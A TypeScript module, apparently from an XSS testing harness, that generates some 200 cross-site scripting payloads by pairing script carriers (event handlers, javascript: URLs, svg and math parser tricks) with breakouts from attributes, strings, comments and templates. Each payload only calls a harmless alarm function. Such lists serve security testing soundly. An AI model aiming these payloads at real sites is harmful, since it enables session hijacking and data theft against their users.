/** Two hundred ways of bringing a script along: what is to run, in each place it may try to break out of. */

/** What a script of ours would call, were one to run; the browser of the drill listens. */
export const ALARM = '__marea_alarm'

const CALL = `${ALARM}()`

const CARRIERS = [
  `<script>${CALL}</script>`,
  `<ScRiPt >${CALL}</sCrIpT >`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<img src=x onerror=${CALL}>`,
  `<IMG SRC=x OnErRoR="${CALL}">`,
  `<img/src/onerror=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<body onload=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>">`,
  `<iframe src="javascript:parent.${CALL}">`,
  `<object data="data:text/html,<script>${CALL}</script>">`,
  `<a href="javascript:${CALL}">ver</a>`,
  `<form action="javascript:${CALL}"><button autofocus>ok</button></form>`,
  `<math><mtext><style><img src=x onerror=${CALL}></style></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<style>@import "javascript:${CALL}";</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
]

/** Out of text, an attribute, a script's string, a comment, a title, a text box, JSON, a template. */
const PLACES = [
  (carrier: string) => carrier,
  (carrier: string) => `">${carrier}`,
  (carrier: string) => `'>${carrier}`,
  (carrier: string) => `</script>${carrier}`,
  (carrier: string) => `-->${carrier}<!--`,
  (carrier: string) => `</title></textarea>${carrier}`,
  (carrier: string) => `\\"});${CALL};//${carrier}`,
  (carrier: string) => `\${${CALL}}{{${CALL}}}${carrier}`,
]

export const PAYLOADS: readonly string[] = PLACES.flatMap((place) => CARRIERS.map(place))
